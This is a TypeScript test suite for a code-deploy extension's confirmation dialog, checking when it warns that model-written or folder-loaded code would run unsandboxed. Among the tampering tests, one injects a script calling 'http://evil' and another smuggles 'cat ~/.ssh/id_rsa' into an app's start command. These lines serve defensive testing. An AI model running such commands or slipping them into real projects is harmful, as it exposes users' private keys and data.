import assert from 'node:assert/strict';
import { AppTree } from '../../src/core/workspace/appTree';
import { TemplateGenerator } from '../../src/core/generate/templates';
import { templateSpec } from '../../src/core/stacks';
import { encodeText } from '../../src/core/workspace/treeText';
import { validateSpec } from '../../src/core/validate';
import { runsHere } from '../../src/core/session';
import { deployConfirmation } from '../../src/vscode/deploy/deployConfirmation';

const calculator = templateSpec('webapp', 'a calculator');
const base = { appName: 'calculator', spec: calculator, findings: [], e2bTemplate: 'base', timeoutMinutes: 15, ours: false };

describe('deployConfirmation (the extension’s deploy dialog)', () => {
  it('says which provider runs what, and what gets installed', () => {
    const c = deployConfirmation({ ...base, generator: 'templates', ours: true, provider: 'local' });
    assert.equal(c.message, 'Deploy “Calculator” (calculator) to the local runner?');
    assert.match(c.detail, /^Provider: the local runner \(this machine, not sandboxed\)$/m);
    assert.match(c.detail, /^Runs: node server\.js$/m);
    assert.match(c.detail, /^Installs: nothing$/m);
    assert.equal(c.action, 'Deploy');
    assert.equal(c.warn, false);
  });

  it('warns before model-written code runs unsandboxed on the local runner, not on E2B', () => {
    const local = deployConfirmation({ ...base, generator: 'claude', provider: 'local' });
    assert.equal(local.unsandboxedModelCode, true);
    assert.equal(local.warn, true);
    assert.match(local.detail, /⚠ This code was written by a model, and the local runner would run it unsandboxed on this machine, with your permissions/);
    const unknown = deployConfirmation({ ...base, generator: 'disk', provider: 'local' });
    assert.equal(unknown.unsandboxedModelCode, true);
    const e2b = deployConfirmation({ ...base, generator: 'claude', provider: 'e2b' });
    assert.equal(e2b.unsandboxedModelCode, false);
    assert.match(e2b.message, /to E2B\?$/);
    assert.match(e2b.detail, /an E2B sandbox \(template base, stops after 15 min unless extended\)/);
  });

  it('lists warnings with file and line, at most six', () => {
    const findings = Array.from({ length: 8 }, (_, i) => ({ severity: 'warning' as const, rule: 'code.eval', path: 'app.js', line: i + 1, message: 'eval() runs arbitrary code.' }));
    const c = deployConfirmation({ ...base, generator: 'templates', ours: true, provider: 'local', findings, redeploy: true });
    assert.equal(c.action, 'Redeploy');
    assert.equal(c.warn, true);
    assert.match(c.detail, /^8 warnings:$/m);
    assert.match(c.detail, /^• app\.js:1: eval\(\) runs arbitrary code\.$/m);
    assert.match(c.detail, /^• … and 2 more \(see Problems\)$/m);
  });

  it('shows what the app’s own package.json adds beyond the declared dependencies', () => {
    const api = templateSpec('api', 'notes');
    const withPkg = { ...api, files: [...api.files.filter((f) => f.path !== 'package.json'), { path: 'package.json', content: '{\n  "dependencies": {\n    "express": "^4.21.2",\n    "left-pad": "1.3.0"\n  }\n}' }] };
    const c = deployConfirmation({ ...base, spec: withPkg, findings: validateSpec(withPkg), generator: 'claude', provider: 'e2b', install: 'npm install express' });
    assert.equal(c.warn, true);
    assert.match(c.detail, /^Installs: express@\^4\.21\.2$/m);
    assert.match(c.detail, /^• package\.json:4: package\.json adds "left-pad", which the app's declared dependencies \(the deploy dialog's list\) do not include\.$/m);
  });

  it('marks dependencies the sandbox already has', () => {
    const api = templateSpec('api', 'notes');
    const c = deployConfirmation({ ...base, spec: api, generator: 'templates', provider: 'e2b', install: undefined });
    assert.match(c.detail, /^Installs: express@\^4\.21\.2 \(preinstalled\)$/m);
  });

  describe('what counts as ours is decided by this process, never by data', () => {
    const localDialog = (tree: AppTree, name: string) => {
      const app = tree.app(name)!;
      const { spec, findings, generator, ours } = tree.specOf(app);
      return deployConfirmation({ ...base, appName: name, spec: spec!, findings, generator, ours, provider: 'local' });
    };
    /** What the spawner does: our own template generator writes the app, then it is marked ours. */
    const generate = async (tree: AppTree) => {
      const result = await new TemplateGenerator().generate({ prompt: 'a calculator', appType: 'webapp' });
      const app = tree.createApp({ nameHint: 'calculator', generator: 'templates' });
      tree.setSpec(app, result.spec, result.generator);
      tree.markOurs(app);
      return app;
    };

    it('a template this process just generated runs without the ⚠', async () => {
      const tree = new AppTree();
      const app = await generate(tree);
      const c = localDialog(tree, app.name);
      assert.equal(c.unsandboxedModelCode, false);
      assert.doesNotMatch(c.detail, /⚠/);
    });

    it('a draft saying "generator": "templates" (or "user") is model/user code: the ⚠ stays', async () => {
      const tree = new AppTree();
      const app = await generate(tree);
      for (const generator of ['templates', 'user']) {
        const restored = new AppTree();
        const snapshot = { version: 1 as const, apps: [{ ...tree.serializeApp(app), generator }] };
        assert.equal(restored.restore(snapshot), 1);
        const c = localDialog(restored, app.name);
        assert.equal(c.unsandboxedModelCode, true, generator);
        assert.equal(c.warn, true);
        assert.match(c.detail, /⚠ This code was not generated from a built-in template just now \(it was read from a folder, restored or edited\), and the local runner would run it unsandboxed/);
      }
    });

    it('a folder opened with "generator": "templates" is not ours', () => {
      const tree = new AppTree();
      const app = tree.createApp({ nameHint: 'opened', generator: 'templates' });
      tree.setSpec(app, calculator, 'templates');
      assert.equal(localDialog(tree, app.name).unsandboxedModelCode, true);
    });

    it('an edit, or a model’s change, after generating takes the trust away; undoing it does not matter', async () => {
      const tree = new AppTree();
      const app = await generate(tree);
      const file = tree.pathOf(app, 'index.html');
      const original = tree.readFile(file);
      tree.writeFile(file, encodeText('<script>fetch("http://evil")</script>'), { create: false, overwrite: true });
      assert.equal(localDialog(tree, app.name).unsandboxedModelCode, true, 'edited');
      tree.writeFile(file, original, { create: false, overwrite: true });
      assert.equal(localDialog(tree, app.name).unsandboxedModelCode, false, 'the same bytes as generated again');
      const manifest = tree.pathOf(app, 'spawn-app.json');
      const m = JSON.parse(new TextDecoder().decode(tree.readFile(manifest)));
      tree.writeFile(manifest, encodeText(JSON.stringify({ ...m, startCommand: 'node server.js; cat ~/.ssh/id_rsa' })), { create: false, overwrite: true });
      assert.equal(localDialog(tree, app.name).unsandboxedModelCode, true, 'start command changed');
    });
  });
});

describe('deployConfirmation: the local sandbox', () => {
  it('sandboxed: says so, and model or unknown code runs without the unsandboxed warning', () => {
    for (const generator of ['claude', 'disk', undefined]) {
      const c = deployConfirmation({ ...base, generator, provider: 'local', isolation: { sandboxed: true, network: true } });
      assert.equal(c.unsandboxedModelCode, false);
      assert.equal(c.warn, false);
      assert.match(c.detail, /^Provider: the local runner \(this machine, sandboxed: no access to your home folder or keys, writes only to its own folder, reachable only from this machine\)$/m);
      assert.doesNotMatch(c.detail, /unsandboxed|not sandboxed/);
    }
    const offline = deployConfirmation({ ...base, generator: 'claude', provider: 'local', isolation: { sandboxed: false, network: false, reason: 'x' } });
    assert.equal(offline.unsandboxedModelCode, true);
    const noNet = deployConfirmation({ ...base, generator: 'claude', provider: 'local', isolation: { sandboxed: true, network: false } });
    assert.match(noNet.detail, /reachable only from this machine, no network\)$/m);
  });

  it('not sandboxed: says why, and the warning stays for code Spawn App did not just write', () => {
    const why = 'bubblewrap (bwrap) is not installed; install bubblewrap (e.g. sudo apt-get install bubblewrap, or dnf/pacman install bubblewrap)';
    const c = deployConfirmation({ ...base, generator: 'claude', provider: 'local', isolation: { sandboxed: false, reason: why, network: true } });
    assert.match(c.detail, /^Provider: the local runner \(this machine, not sandboxed: bubblewrap \(bwrap\) is not installed; install bubblewrap/m);
    assert.equal(c.unsandboxedModelCode, true);
    assert.equal(c.warn, true);
    assert.match(c.detail, /would run it unsandboxed on this machine, with your permissions \(bubblewrap \(bwrap\) is not installed;/);
  });

  it('its warning is the session’s one sentence (the CLI’s question and the MCP refusal say the same)', () => {
    const iso = { sandboxed: false, reason: 'the sandbox is turned off (SPAWN_APP_SANDBOX=off)', network: true };
    for (const [generator, origin] of [['claude', 'model'], ['vscode-lm', 'model'], ['user', 'folder'], [undefined, 'folder']] as const) {
      const c = deployConfirmation({ ...base, generator, provider: 'local', isolation: iso });
      assert.ok(c.detail.includes(`⚠ ${runsHere('local', iso, { origin }).warning!} Set an E2B API key`), `${generator}: ${c.detail}`);
    }
  });
});
